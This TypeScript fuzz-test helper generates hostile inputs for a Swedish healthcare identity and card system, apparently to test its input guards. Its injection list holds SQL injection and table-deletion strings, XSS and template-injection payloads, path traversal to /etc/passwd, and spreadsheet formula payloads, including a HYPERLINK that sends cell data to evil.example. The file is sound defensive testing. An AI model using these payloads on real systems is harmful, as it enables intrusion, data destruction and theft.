import { luhnCheckDigit } from '../../../protocol/identifiers';
import type { Random } from './random';

/**
 * Real values from the seeded database: the fuzz sends ids of rows that exist (often in another unit, of
 * another person, of another agent's job), since a guard that only meets random ids proves little.
 */
export interface RealValues {
  unitIds: string[];
  unitHsaIds: string[];
  personIds: string[];
  personHsaIds: string[];
  personalIdentityNumbers: string[];
  userIds: string[];
  assignmentIds: string[];
  cardIds: string[];
  cardSerials: string[];
  eidIds: string[];
  orderIds: string[];
  jobIds: string[];
  authOrderIds: string[];
  agentSessionIds: string[];
  agentIds: string[];
  mobileDeviceIds: string[];
  enrolmentIds: string[];
  enrolmentCodeIds: string[];
}

/** Rows that belong together (a card and its holder, an order and its state), for forms that name both. */
export interface RelatedValues {
  heldCards: { personId: string; cardId: string }[];
  heldEids: { personId: string; eidId: string }[];
  openOrders: { orderId: string; state: string }[];
  stockCards: { cardId: string; unitId: string }[];
  reserveOrders: { orderId: string; unitId: string }[];
}

export type RealKind = keyof RealValues;

const bidiAndControl = [
  '\u202eevil\u202c.exe',
  'Anna\u202e',
  '\u2066isolated\u2069',
  '\u200f\u200e',
  'a\u0000b',
  '\u0000',
  '\u0007\u001b[31mred\u001b[0m',
  'line\r\nSet-Cookie: x=1',
  '\u0085next line',
  '\ufeffbom',
  '\u200bzero width',
  'e\u0301\u0301\u0301\u0301',
  'Z̸̡̢͇̤̲̈́̾͊a̵̢̟̜̯͐l̴̻̮̪̔g̶̝̈o̷̫̍',
  '\ud800',
  '\udfff lone',
  '😀'.repeat(40),
  '👩‍👩‍👧‍👦',
  'Åsa Ölund-Ängström',
  'ﷺ',
  '\t\t',
  ' ',
  '',
];

const injection = [
  "'; drop table units; --",
  '" OR 1=1 --',
  "' OR '1'='1",
  "Robert'); DELETE FROM audit_events; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '</textarea><svg onload=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '@SUM(1)',
  '-2+3',
  '\t=1+1',
  `\${7*7}`,
  '%s%s%s%n',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '%',
  '%zz',
  '//evil.example',
  '/\\evil.example',
  '/%09/evil.example',
  '/\t/evil.example',
  'javascript:alert(1)',
  'https://evil.example/',
  'data:text/html,<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
];

const numbersAsText = [
  '0',
  '-1',
  '-0',
  '1.5',
  '1e309',
  '-1e309',
  'NaN',
  'Infinity',
  '-Infinity',
  '9007199254740993',
  '0x1f',
  '0b101',
  ' 12 ',
  '١٢٣',
  '１２３',
  '999',
  '1000',
  '2',
  '3',
  '4',
  'true',
  'false',
  'null',
  'undefined',
  '[]',
  '{}',
  '[object Object]',
];

/** Values that some form or event somewhere accepts: sent to other fields and routes they do not belong to. */
const validElsewhere = [
  'create_unit',
  'grant_role',
  'approve',
  'cancel',
  'review',
  'confirm',
  'collect',
  'restart',
  'register',
  'activate',
  'reauth',
  'unlock',
  'on',
  'sv',
  'en',
  'manager',
  'contact_person',
  'id_admin',
  'support',
  'system_admin',
  'placed',
  'awaiting_second_approval',
  'ready',
  'fulfilled',
  'cancelled',
  'expired',
  'eid_on_card',
  'reserve_card_loa2',
  'reserve_card_loa3',
  'mobile',
  'lost',
  'compromised',
  'SITHS-RES-2',
  '/admin',
  '/mina-sidor',
];

/** A valid personnummer (Luhn and a real date in the past) that belongs to nobody in the demo. */
export function personalIdentityNumber(random: Random): string {
  const year = random.int(1930, 2005);
  const month = String(random.int(1, 12)).padStart(2, '0');
  const day = String(random.int(1, 28) + (random.chance(0.1) ? 60 : 0)).padStart(2, '0');
  const serial = random.digits(3);
  const nine = `${String(year).slice(2)}${month}${day}${serial}`;
  const full = `${year}${month}${day}${serial}${luhnCheckDigit(nine)}`;
  return random.weighted([
    [3, full],
    [1, `${full.slice(0, 8)}-${full.slice(8)}`],
    [1, `${full.slice(2, 8)}-${full.slice(8)}`],
    [1, `${full.slice(2, 8)}+${full.slice(8)}`],
  ]);
}

/** A 19-digit card serial with a correct Luhn check digit. */
export function cardSerial(random: Random): string {
  const body = `9752${random.digits(14)}`;
  return `${body}${luhnCheckDigit(body)}`;
}

export function hsaId(random: Random): string {
  const local = random.pick(['E', 'S', 'F', 'X']) + random.digits(random.int(1, 12));
  return random.chance(0.2) ? `SE2321000131-${local}`.toLowerCase() : `SE2321000131-${local}`;
}

export function realValue(random: Random, real: RealValues, kind: RealKind): string {
  const pool = real[kind];
  return pool.length > 0 ? random.pick(pool) : random.uuid();
}

function anyRealValue(random: Random, real: RealValues): string {
  return realValue(random, real, random.pick(Object.keys(real) as RealKind[]));
}

/** A hostile string: empty, huge (within a form body's usual size), odd unicode, injection, numbers as text, real ids. */
export function hostileString(random: Random, real: RealValues): string {
  return random.weighted<() => string>([
    [3, () => random.pick(bidiAndControl)],
    [3, () => random.pick(injection)],
    [2, () => random.pick(numbersAsText)],
    [2, () => random.pick(validElsewhere)],
    [3, () => anyRealValue(random, real)],
    [1, () => personalIdentityNumber(random)],
    [1, () => cardSerial(random)],
    [1, () => hsaId(random)],
    [1, () => random.uuid()],
    [1, () => `${cardSerial(random).slice(0, 18)}${(Number(cardSerial(random).slice(-1)) + 1) % 10}`],
    [
      1,
      () =>
        random.pick(['a', 'x', '9', '😀', '<', "'"]).repeat(random.pick([101, 201, 301, 501, 2_001, 8_000])),
    ],
    [1, () => `${random.pick(injection)}${random.pick(bidiAndControl)}${anyRealValue(random, real)}`],
  ])();
}

/** Any JSON-ish value, for JSON bodies and socket payloads: wrong types, deep nesting, prototype keys. */
export function hostileValue(random: Random, real: RealValues, depth = 0): unknown {
  return random.weighted<() => unknown>([
    [6, () => hostileString(random, real)],
    [1, () => null],
    [1, () => undefined],
    [1, () => random.chance(0.5)],
    [
      2,
      () =>
        random.pick([
          0,
          -1,
          1,
          1.5,
          -0,
          2 ** 31,
          2 ** 53 + 1,
          Number.MAX_SAFE_INTEGER,
          Number.MIN_SAFE_INTEGER,
          Number.NaN,
          Number.POSITIVE_INFINITY,
          Number.NEGATIVE_INFINITY,
          1e308,
          Date.now(),
          -Date.now(),
          10_001,
        ]),
    ],
    [
      depth < 3 ? 2 : 0,
      () =>
        Array.from({ length: random.pick([0, 1, 2, 5, 33, 200]) }, () =>
          hostileValue(random, real, depth + 1),
        ),
    ],
    [depth < 3 ? 2 : 0, () => hostileObject(random, real, depth + 1)],
    [1, () => nested(random.pick([20, 200]))],
  ])();
}

function hostileObject(random: Random, real: RealValues, depth: number): Record<string, unknown> {
  const object: Record<string, unknown> = {};
  const keys = ['jobId', 'id', 'type', 'text', '__proto__', 'constructor', 'toString', '', 'ok', 'code'];
  for (let index = random.int(0, 4); index > 0; index--) {
    Object.defineProperty(object, random.pick(keys), {
      value: hostileValue(random, real, depth),
      enumerable: true,
      configurable: true,
      writable: true,
    });
  }
  return object;
}

function nested(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let index = 0; index < depth; index++) value = index % 2 === 0 ? [value] : { deeper: value };
  return value;
}
